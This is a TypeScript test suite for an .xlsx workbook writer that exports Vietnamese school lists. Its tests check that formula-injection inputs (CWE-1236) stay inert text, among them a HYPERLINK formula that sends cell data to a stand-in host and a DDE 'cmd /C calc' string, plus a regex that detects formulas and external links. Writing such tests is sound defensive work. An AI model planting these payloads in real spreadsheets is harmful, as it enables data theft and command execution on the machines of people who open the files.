import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { readXlsx } from 'hucre';
import { describe, expect, test } from 'vitest';
import { PlainDate, unwrap } from '#kernel';
import { openArchive } from '../archive/open.ts';
import { readSheets } from '../sheet/read-sheets.ts';
import type { ExportCell, ExportSheet } from './model.ts';
import { STYLE } from './styles.ts';
import { looksLive } from './text.ts';
import { workbookBytes, writeWorkbook } from './write-workbook.ts';

const sheet = (rows: readonly (readonly ExportCell[])[], more: Partial<ExportSheet> = {}): ExportSheet => ({ name: 'Danh sách', head: [], rows, ...more });
const readBack = async (bytes: Uint8Array) => unwrap(await readSheets('x.xlsx', unwrap(openArchive(bytes))));
const partsOf = (bytes: Uint8Array) => Object.fromEntries(Object.entries(unzipSync(bytes)).map(([name, part]) => [name, strFromU8(part)]));

/** What a spreadsheet, or a program that turns a sheet into .csv, could take for something to carry out (CWE-1236). */
const LIVE = ['=1+1', '+84912', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', "'=1", '"=1"', '＝1', '＋1', '－1', '＠A1', '|calc', '%0A', '=HYPERLINK("http://x.example/?"&A1,"Xem")', "=cmd|' /C calc'!A0", '\u200b=1', '\ufeff=1'];
const HARMLESS = ['Nguyễn Văn Ă', '0222', 'a=b', '1-2', '', 'x@y.vn', '_x0041_', '#N/A', '<b>&"\'</b>', 'Đ', '😀', ' hai  đầu '];

describe('a cell is what it says and nothing acts', () => {
  test.each([...LIVE, ...HARMLESS])('%j comes back as it went in, as text', async (text) => {
    const bytes = await workbookBytes([sheet([[text, 'x']])]);
    expect((await readBack(bytes))[0]!.rows).toEqual([[text === '' ? null : text, 'x']]);
    expect((await readBack(bytes))[0]!.formulas.size).toBe(0);
  });

  test.each(LIVE)('%j stays text when somebody edits the cell', async (text) => {
    expect(looksLive(text)).toBe(true);
    expect(partsOf(await workbookBytes([sheet([[text]])]))['xl/worksheets/sheet1.xml']).toContain(`<c r="A1" s="${STYLE.neutral}" t="inlineStr">`);
  });
  test.each(HARMLESS)('%j is no cause for alarm', (text) => expect(looksLive(text)).toBe(false));

  test('any text, anywhere in a workbook: no formula, no link, nothing outside', async () => {
    await fc.assert(fc.asyncProperty(fc.array(fc.string({ unit: 'binary', maxLength: 40 }), { minLength: 1, maxLength: 8 }), async (texts) => {
      const bytes = await workbookBytes([sheet([texts], { name: texts[0]!, titles: texts, head: [texts] })]);
      const parts = partsOf(bytes);
      for (const xml of Object.values(parts)) expect(xml).not.toMatch(/<f[ >/]|hyperlink(?!s? )\s|externalLink|oleObject|<!|TargetMode="External"/i);
      expect(Object.keys(parts)).toEqual(['[Content_Types].xml', '_rels/.rels', 'xl/worksheets/sheet1.xml', 'xl/styles.xml', 'xl/workbook.xml', 'xl/_rels/workbook.xml.rels']);
      await readBack(bytes);
    }), { numRuns: 150, seed: 27 });
  });

  test('any text of XML comes back', async () => {
    await fc.assert(fc.asyncProperty(fc.array(fc.string({ unit: 'grapheme', minLength: 1, maxLength: 60 }).filter((text) => !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/.test(text)), { minLength: 1, maxLength: 8 }), async (texts) => {
      expect((await readBack(await workbookBytes([sheet([texts])])))[0]!.rows).toEqual([texts]);
    }), { numRuns: 150, seed: 28 });
  });

  test('a sign that XML cannot say is replaced, not dropped', async () => {
    expect((await readBack(await workbookBytes([sheet([['a\u0000b\ud800c']])])))[0]!.rows).toEqual([['a\ufffdb\ufffdc']]);
  });
});

describe('values', () => {
  test.each(['1950-01-01', '2000-02-29', '2014-08-04', '2099-12-31'])('%s is a date cell', async (text) => {
    const day = unwrap(PlainDate.parse(text));
    const [[value]] = (await readBack(await workbookBytes([sheet([[{ day }]])])))[0]!.rows as [[Date]];
    expect(value.toISOString()).toBe(`${text}T00:00:00.000Z`);
  });
  test('numbers are numbers, identifiers are text with their zeros', async () => {
    expect((await readBack(await workbookBytes([sheet([[9, 131.5, '022217292935', '0001', null]])])))[0]!.rows).toEqual([[9, 131.5, '022217292935', '0001']]);
  });
  test('a marked cell has the same value in another format', async () => {
    const bytes = await workbookBytes([sheet([[{ marked: 'x' }, { marked: '=1' }, { marked: null }, { marked: 5 }]])]);
    expect((await readBack(bytes))[0]!.rows).toEqual([['x', '=1', null, 5]]);
    expect(partsOf(bytes)['xl/worksheets/sheet1.xml']!.match(/s="\d"/g)).toEqual(['markedText', 'markedNeutral', 'marked', 'marked'].map((name) => `s="${STYLE[name as keyof typeof STYLE]}"`));
  });
});

describe('workbook', () => {
  test('titles, header, merges and rows stand where they should', async () => {
    const [one] = await readBack(await workbookBytes([sheet([['a', 'b', 'c']], { titles: ['TRƯỜNG A', 'Năm học'], head: [['Toán', '', 'Lớp'], ['Mức', 'Điểm', '']], merges: [{ startRow: 0, startCol: 0, endRow: 0, endCol: 1 }, { startRow: 0, startCol: 2, endRow: 1, endCol: 2 }] })]));
    expect(one!.rows.map((row) => [...row])).toEqual([['TRƯỜNG A', null, null], ['Năm học', null, null], ['Toán', null, 'Lớp'], ['Mức', 'Điểm', null], ['a', 'b', 'c']]);
    expect(one!.merges).toEqual([{ startRow: 2, startCol: 0, endRow: 2, endCol: 1 }, { startRow: 2, startCol: 2, endRow: 3, endCol: 2 }]);
  });
  test('names of sheets are those Excel takes, each once', async () => {
    const wanted = ['1A1', '1a1', 'a/b:c', "'x'", '', 'n'.repeat(40), 'n'.repeat(40)];
    const { sheets } = await readXlsx(await workbookBytes(wanted.map((name) => sheet([['x']], { name }))));
    expect(sheets.map(({ name }) => name)).toEqual(['1A1', '1a1 (2)', 'a b c', 'x', 'Trang', 'n'.repeat(31), `${'n'.repeat(27)} (2)`]);
  });
  test('a workbook of no sheet has an empty one', async () => expect((await readXlsx(await workbookBytes([]))).sheets).toHaveLength(1));
  test('the same content gives the same octets', async () => {
    const make = () => workbookBytes([sheet([['a', 1]])]);
    expect(await make()).toEqual(await make());
  });
  test('rows are taken as they are written: the first octets are out before the last row is asked for', async () => {
    let taken = 0;
    function* rows() { for (; taken < 200_000; taken++) yield ['Nguyễn Văn A', String(taken)]; }
    let before = Number.POSITIVE_INFINITY;
    for await (const _ of writeWorkbook([sheet([], { rows: rows() })])) before = Math.min(before, taken === 0 ? Number.POSITIVE_INFINITY : taken);
    expect(before).toBeLessThan(20_000);
    expect(taken).toBe(200_000);
  });
  test('a source that fails breaks the file off', async () => {
    function* rows() { yield ['a']; throw new Error('the source broke'); }
    await expect(workbookBytes([sheet([], { rows: rows() })])).rejects.toThrow('the source broke');
  });
});
